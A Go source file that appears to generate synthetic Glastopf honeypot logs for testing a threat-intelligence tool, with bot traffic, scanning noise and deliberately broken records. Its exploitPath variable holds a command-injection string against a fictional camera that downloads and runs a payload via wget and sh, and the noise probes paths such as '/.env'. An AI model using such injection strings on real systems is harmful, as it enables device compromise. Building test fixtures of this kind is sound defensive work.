package scenario

import (
	"fmt"
	"strings"
	"time"

	"github.com/opencure/cure"
)

// glastopfRecord is an event of Glastopf as hpfeeds carries it. Times are the
// sensor's own, here UTC, without a zone.
type glastopfRecord struct {
	Time       string `json:"time"`
	Source     [2]any `json:"source"` // address, port
	RequestURL string `json:"request_url"`
	RequestRaw string `json:"request_raw"`
	Pattern    string `json:"pattern"`
	SensorID   string `json:"sensorid"`
	SensorIP   string `json:"sensor_ip"`
	SensorPort int    `json:"sensor_port"`
	Host       string `json:"http_host"`
	Synthetic  string `json:"note"` // not part of the format; readers skip it
}

const glastopfLayout = "2006-01-02 15:04:05"

// exploitPath makes the fictional camera EV-200 fetch the malware
// (CVE-1337-20261).
var exploitPath = "/ev200/cmd.cgi?ip=;wget+" + LoaderURL + "+-O+/tmp/kage;sh+/tmp/kage"

// glastopf tells what the web honeypot saw: the exploit from seventeen bots,
// noise that looks for other things every quarter of an hour, and three broken
// lines.
func glastopf(t *teller) {
	log := t.journal("glastopf/fukuoka1")
	for _, bot := range t.story.Cast.botsOf("glastopf") {
		when := bot.First + 3*time.Minute + t.seconds(400)
		t.saw(log.source, cure.KindIP, bot.Addr.String())
		log.add(t.time(when), t.request(log, bot.Addr.String(), exploitPath, when))
	}
	t.saw(log.source, cure.KindIP, Loader)
	t.saw(log.source, cure.KindURL, LoaderURL)
	looks := []string{"/", "/robots.txt", "/.env", "/wp-login.php", "/manager/html"}
	const block = 11
	for i, moment := 0, begin; moment < -2*time.Minute; i, moment = i+1, moment+15*time.Minute {
		src := noise(block, i)
		when := moment + t.seconds(60)
		t.saw(log.source, cure.KindIP, src)
		log.add(t.time(when), t.request(log, src, looks[t.rand.IntN(len(looks))], when))
	}
	for i, mistake := range []string{"1970", "cut", "zone"} {
		when := at(20, 7, 9+i)
		src := fmt.Sprintf("247.0.4.%d", i+1)
		stamp := t.time(when).UTC().Format(glastopfLayout)
		switch mistake {
		case "1970":
			stamp = "1970-01-01 00:00:09"
		case "zone":
			stamp += "+25:00"
		}
		text := fmt.Sprintf(`{"time":%q,"source":[%q,4711],"request_url":"/","sensorid":"hp","note":"SYNTHETIC broken record"}`, stamp, src)
		if mistake == "cut" {
			text = text[:len(text)/2]
		}
		log.broken(t.time(when), []byte(text), mistake)
		t.facts.forbid(Forbidden{
			Observable: cure.Observable{Kind: cure.KindIP, Value: src},
			Why:        "stands in a record that must be refused (" + mistake + ")",
		})
	}
	log.file("glastopf.json", t.story.Now)
}

// request is a GET of a path.
func (t *teller) request(log *journal, src, path string, when time.Duration) glastopfRecord {
	host := sensors[string(log.source)]
	pattern := "unknown"
	if strings.HasSuffix(path, ".txt") {
		pattern = "robots"
	}
	return glastopfRecord{
		Time: t.time(when).UTC().Format(glastopfLayout), Source: [2]any{src, 1024 + t.rand.IntN(60000)},
		RequestURL: path, RequestRaw: "GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
		Pattern: pattern, SensorID: "hinata-web-1", SensorIP: host, SensorPort: 80, Host: host, Synthetic: "SYNTHETIC",
	}
}
